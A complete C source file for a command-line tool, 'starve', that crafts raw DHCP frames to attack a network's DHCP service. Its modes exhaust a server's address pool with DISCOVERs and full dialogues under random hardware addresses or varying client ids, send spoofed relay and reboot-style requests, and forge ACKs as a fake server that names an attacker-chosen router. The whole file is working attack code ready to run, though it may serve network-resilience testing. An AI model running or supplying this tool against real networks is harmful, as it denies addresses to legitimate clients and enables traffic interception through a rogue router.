/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * DHCP that no ordinary client sends, from a packet socket. Frames have the interface's own MAC address.
 *
 *	starve discover INTERFACE COUNT RATE	DISCOVERs, each for another hardware address
 *	starve strangers INTERFACE COUNT RATE	whole dialogues, each for another hardware address
 *	starve names INTERFACE COUNT RATE	whole dialogues for the own one, each under another client id
 *	starve reboot INTERFACE COUNT RATE BASE	only REQUESTs for the own one, as after a reboot, each under
 *						another client id and for the next address from BASE on
 *	starve answer INTERFACE COUNT RATE SERVER MAC ADDRESS
 *						ACKs as from SERVER: MAC has ADDRESS, and SERVER is the router
 *	starve relay INTERFACE COUNT RATE RELAY	DISCOVERs of the own one, as relayed by RELAY
 *
 * RATE is in a second. It prints `sent N` and `leases N`, those that an ACK gave. 2: usage or a failed
 * system call.
 */
#define _GNU_SOURCE 1
#include <arpa/inet.h>
#include <err.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define EXIT_TROUBLE   2
#define BROADCAST_FLAG 0x8000
#define COOKIE	       0x63825363
#define SERVER_PORT    67
#define CLIENT_PORT    68
#define LEASE_S	       600

enum {
	OPTION_ROUTER = 3,
	OPTION_ADDRESS = 50,
	OPTION_TIME,
	OPTION_TYPE = 53,
	OPTION_SERVER,
	OPTION_CLIENT = 61
};
enum { DISCOVER = 1, OFFER, REQUEST, ACK = 5 };

struct bootp {
	uint8_t op, htype, hlen, hops;
	uint32_t xid;
	uint16_t secs, flags_be;
	uint32_t ciaddr, yiaddr, siaddr, giaddr;
	uint8_t chaddr[16];
	uint8_t sname[64], file[128];
	uint32_t cookie_be;
	uint8_t options[64];
} __attribute__((packed));

struct message {
	struct ethhdr ether;
	struct iphdr ip;
	struct udphdr udp;
	struct bootp bootp;
} __attribute__((packed));

struct attacker {
	int fd;
	struct sockaddr_ll link;
	uint8_t mac[ETH_ALEN];
	unsigned long sent, leases;
};

/* One conversation with the server, as somebody. */
struct dialogue {
	uint8_t chaddr[ETH_ALEN];
	uint32_t xid;
	uint32_t name;	/* client id; 0: none is sent */
	uint32_t relay; /* network order, like all addresses here */
	uint32_t address;
	uint32_t server;
};

static void attacker_open(struct attacker *a, const char *interface)
{
	struct ifreq request = {0};

	a->fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
	if (a->fd < 0)
		err(EXIT_TROUBLE, "packet socket");
	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", interface);
	if (ioctl(a->fd, SIOCGIFHWADDR, &request))
		err(EXIT_TROUBLE, "%s", interface);
	memcpy(a->mac, request.ifr_hwaddr.sa_data, ETH_ALEN);
	a->link = (struct sockaddr_ll){
		.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_IP),
		.sll_ifindex = (int)if_nametoindex(interface),
		.sll_halen = ETH_ALEN,
	};
	if (bind(a->fd, (struct sockaddr *)&a->link, sizeof(a->link)))
		err(EXIT_TROUBLE, "bind %s", interface);
}

/* ---------------------------------------------------------------------------------------- building */

static uint8_t *option(uint8_t *at, uint8_t code, const void *value, uint8_t size)
{
	*at++ = code;
	*at++ = size;
	memcpy(at, value, size);
	return at + size;
}

static uint16_t header_sum(const struct iphdr *ip)
{
	uint16_t words[sizeof(*ip) / 2];
	uint32_t sum = 0;

	memcpy(words, ip, sizeof(words));
	for (size_t i = 0; i < sizeof(*ip) / 2; i++)
		sum += words[i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* Addresses and ports, once the message is as long as it gets. UDP goes without a checksum. */
static size_t finish(struct message *m, const uint8_t *end, uint32_t source, bool as_server)
{
	size_t length = (size_t)(end - (uint8_t *)m);
	struct iphdr ip;

	m->ether.h_proto = htons(ETH_P_IP);
	ip = (struct iphdr){
		.version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = IPPROTO_UDP,
		.tot_len = htons((uint16_t)(length - sizeof(m->ether))),
		.saddr = source,
		.daddr = INADDR_BROADCAST,
	};
	ip.check = header_sum(&ip);
	m->ip = ip;
	m->udp.source = htons(as_server ? SERVER_PORT : CLIENT_PORT);
	m->udp.dest = htons(as_server ? CLIENT_PORT : SERVER_PORT);
	m->udp.len = htons((uint16_t)(length - sizeof(m->ether) - sizeof(m->ip)));
	return length;
}

static void begin(struct message *m, const struct attacker *a, const struct dialogue *d, uint8_t op)
{
	memset(m, 0, sizeof(*m));
	memset(m->ether.h_dest, 0xff, ETH_ALEN);
	memcpy(m->ether.h_source, a->mac, ETH_ALEN);
	m->bootp.op = op;
	m->bootp.htype = 1;
	m->bootp.hlen = ETH_ALEN;
	m->bootp.xid = d->xid;
	m->bootp.flags_be = htons(BROADCAST_FLAG);
	m->bootp.giaddr = d->relay;
	m->bootp.cookie_be = htonl(COOKIE);
	memcpy(m->bootp.chaddr, d->chaddr, ETH_ALEN);
}

static void transmit(struct attacker *a, const struct message *m, size_t length)
{
	if (sendto(a->fd, m, length, 0, (struct sockaddr *)&a->link, sizeof(a->link)) < 0)
		err(EXIT_TROUBLE, "send");
	a->sent++;
}

static void ask(struct attacker *a, const struct dialogue *d, uint8_t type)
{
	struct message m;
	uint8_t *at;

	begin(&m, a, d, 1);
	at = option(m.bootp.options, OPTION_TYPE, &type, 1);
	if (d->name)
		at = option(at, OPTION_CLIENT, &d->name, sizeof(d->name));
	if (d->address)
		at = option(at, OPTION_ADDRESS, &d->address, sizeof(d->address));
	if (d->server)
		at = option(at, OPTION_SERVER, &d->server, sizeof(d->server));
	*at++ = 255;
	transmit(a, &m, finish(&m, at, 0, false));
}

static void answer(struct attacker *a, const struct dialogue *d)
{
	uint32_t seconds = htonl(LEASE_S);
	uint8_t type = ACK, *at;
	struct message m;

	begin(&m, a, d, 2);
	m.bootp.yiaddr = d->address;
	at = option(m.bootp.options, OPTION_TYPE, &type, 1);
	at = option(at, OPTION_TIME, &seconds, sizeof(seconds));
	at = option(at, OPTION_SERVER, &d->server, sizeof(d->server));
	at = option(at, OPTION_ROUTER, &d->server, sizeof(d->server));
	*at++ = 255;
	transmit(a, &m, finish(&m, at, d->server, true));
}

/* ----------------------------------------------------------------------------------------- hearing */

static int64_t now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (int64_t)now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static const uint8_t *find_option(const struct message *m, size_t got, uint8_t code, uint8_t size)
{
	const uint8_t *end = (const uint8_t *)m + got, *at = m->bootp.options;

	while (at + 2 <= end && *at != 255 && at + 2 + at[1] <= end) {
		if (at[0] == code && at[1] == size)
			return at + 2;
		at += 2 + at[1];
	}
	return NULL;
}

/* Waits for the server's @type in this dialogue, and takes from it what was offered. */
static bool hear(const struct attacker *a, struct dialogue *d, uint8_t wanted, int64_t milliseconds)
{
	int64_t end = now_ms() + milliseconds, left;
	const uint8_t *type, *server;
	union {
		struct message m;
		uint8_t bytes[1514];
	} in;

	while ((left = end - now_ms()) > 0) {
		struct pollfd p = {.fd = a->fd, .events = POLLIN};
		ssize_t got;

		if (poll(&p, 1, (int)left) <= 0)
			continue;
		got = recv(a->fd, &in, sizeof(in), MSG_DONTWAIT);
		if (got < (ssize_t)offsetof(struct message, bootp.options) || in.m.ip.ihl != 5 ||
		    in.m.bootp.op != 2 || in.m.bootp.xid != d->xid)
			continue;
		type = find_option(&in.m, (size_t)got, OPTION_TYPE, 1);
		server = find_option(&in.m, (size_t)got, OPTION_SERVER, 4);
		if (!type || *type != wanted || !server)
			continue;
		memcpy(&d->server, server, sizeof(d->server));
		d->address = in.m.bootp.yiaddr;
		return true;
	}
	return false;
}

/* --------------------------------------------------------------------------------------- attacking */

static void somebody(struct dialogue *d)
{
	if (getrandom(d->chaddr, sizeof(d->chaddr), 0) != sizeof(d->chaddr))
		err(EXIT_TROUBLE, "getrandom");
	d->chaddr[0] = 2;
}

static void converse(struct attacker *a, struct dialogue *d, int64_t milliseconds)
{
	ask(a, d, DISCOVER);
	if (!hear(a, d, OFFER, milliseconds))
		return;
	ask(a, d, REQUEST);
	a->leases += hear(a, d, ACK, milliseconds);
}

static uint32_t address_of(const char *text)
{
	struct in_addr address;

	if (!text || inet_pton(AF_INET, text, &address) != 1)
		errx(EXIT_TROUBLE, "%s is no address", text ? text : "what is missing");
	return address.s_addr;
}

static void one(struct attacker *a, const char *mode, char **words, uint32_t n,
		int64_t milliseconds)
{
	struct dialogue d = {.name = htonl(n + 1)};

	memcpy(d.chaddr, a->mac, ETH_ALEN);
	if (getrandom(&d.xid, sizeof(d.xid), 0) != sizeof(d.xid))
		err(EXIT_TROUBLE, "getrandom");
	if (!strcmp(mode, "discover")) {
		somebody(&d);
		ask(a, &d, DISCOVER);
	} else if (!strcmp(mode, "strangers")) {
		somebody(&d);
		converse(a, &d, milliseconds);
	} else if (!strcmp(mode, "names")) {
		converse(a, &d, milliseconds);
	} else if (!strcmp(mode, "reboot")) {
		d.address = htonl(ntohl(address_of(words[0])) + n);
		ask(a, &d, REQUEST);
		a->leases += hear(a, &d, ACK, milliseconds);
	} else if (!strcmp(mode, "relay")) {
		d.relay = address_of(words[0]);
		ask(a, &d, DISCOVER);
	} else if (!strcmp(mode, "answer") && words[0] && words[1]) {
		d.server = address_of(words[0]);
		if (sscanf(words[1], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &d.chaddr[0], &d.chaddr[1],
			   &d.chaddr[2], &d.chaddr[3], &d.chaddr[4], &d.chaddr[5]) != ETH_ALEN)
			errx(EXIT_TROUBLE, "%s is no MAC address", words[1]);
		d.address = address_of(words[2]);
		answer(a, &d);
	} else {
		errx(EXIT_TROUBLE, "%s: not known, or an argument is missing", mode);
	}
}

int main(int argc, char **argv)
{
	struct attacker a = {0};
	int64_t since, every;

	if (argc < 5 || atoi(argv[3]) < 1 || atoi(argv[4]) < 1)
		errx(EXIT_TROUBLE, "usage: starve MODE INTERFACE COUNT RATE [ARGUMENT...]");
	attacker_open(&a, argv[2]);
	every = 1000 / atoi(argv[4]);
	for (uint32_t n = 0; n < (uint32_t)atoi(argv[3]); n++) {
		since = now_ms();
		one(&a, argv[1], argv + 5, n, every);
		if (now_ms() < since + every)
			usleep((useconds_t)(since + every - now_ms()) * 1000);
	}
	printf("sent %lu\nleases %lu\n", a.sent, a.leases);
	return 0;
}
